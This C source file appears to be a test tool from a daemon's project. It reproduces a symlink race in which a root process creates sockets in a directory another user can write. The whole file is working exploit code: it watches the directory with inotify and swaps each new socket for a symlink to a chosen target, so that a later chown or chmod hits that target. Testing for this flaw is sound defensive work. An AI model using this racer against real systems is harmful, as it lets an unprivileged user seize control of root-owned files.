/*
 * symlink_racer - the attack on a daemon that makes its sockets as root
 * in a directory another user can write (issue 14, item 1): watch DIR
 * and, as each socket appears in it, rename a symbolic link to TARGET
 * over it, so that a chmod or chown by name that follows lands on TARGET.
 *
 *     symlink_racer DIR TARGET      (run as that other user; stop it with SIGTERM)
 *
 * It prints "watching" once its watch is in place, then one line
 * "swapped NAME" per socket it replaced. A test tool:
 * never built into anything installed.
 */
#include <errno.h>
#include <limits.h>
#include <stdio.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	char buf[8192] __attribute__((aligned(__alignof__(struct inotify_event))));
	int fd;

	if (argc != 3) {
		fprintf(stderr, "usage: symlink_racer DIR TARGET\n");
		return 2;
	}
	if ((fd = inotify_init1(IN_CLOEXEC)) < 0 || inotify_add_watch(fd, argv[1], IN_CREATE) < 0) {
		perror(argv[1]);
		return 1;
	}
	setvbuf(stdout, NULL, _IOLBF, 0);
	printf("watching\n");
	for (;;) {
		ssize_t n = read(fd, buf, sizeof(buf));

		if (n <= 0) {
			if (n < 0 && errno == EINTR)
				continue;
			return 1;
		}
		for (char *p = buf; p < buf + n;) {
			const struct inotify_event *ev = (const struct inotify_event *)p;
			char path[PATH_MAX], tmp[PATH_MAX];
			struct stat st;

			p += sizeof(*ev) + ev->len;
			if (ev->len == 0 || ev->name[0] == '.')
				continue;
			snprintf(path, sizeof(path), "%s/%s", argv[1], ev->name);
			if (lstat(path, &st) < 0 || !S_ISSOCK(st.st_mode))
				continue;
			snprintf(tmp, sizeof(tmp), "%s/.racer.%ld", argv[1], (long)getpid());
			unlink(tmp);
			if (symlink(argv[2], tmp) == 0 && rename(tmp, path) == 0)
				printf("swapped %s\n", ev->name);
		}
	}
}
